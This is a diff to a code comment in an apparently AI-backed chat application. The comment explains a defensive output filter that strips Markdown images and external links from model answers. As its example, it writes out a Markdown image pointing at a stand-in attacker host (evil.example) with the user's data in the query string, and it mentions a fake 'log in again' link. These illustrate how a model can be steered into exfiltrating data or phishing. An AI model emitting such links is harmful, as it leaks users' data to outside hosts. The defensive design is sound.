@@ -3,9 +3,9 @@
  * input: one can ask the model to render `![x](https://evil.example/?q=<the user's data>)`, which a
  * browser would fetch on sight, or to show a "log in again" link. So the stored answer carries no
  * Markdown image at all and no link except to this application's own pages (relative paths,
- * citations): a link's text stays, its target goes. The renderer applies the same rule while the
- * answer streams (components/chat/message-view.tsx), so neither the live nor the stored answer
- * can load or link anything outside.
+ * citations): a link's text stays, its target goes. The same policy filters the streamed text
+ * (outputPolicyStream), and the renderer enforces it on its own (components/chat/message-view.tsx),
+ * so neither the live nor the stored answer can load or link anything outside.
  *
  * A bare URL quoted from a policy ("forms are at https://intranet.example/forms") stays as text:
  * it is what the document says, and the renderer shows it without making it a link.
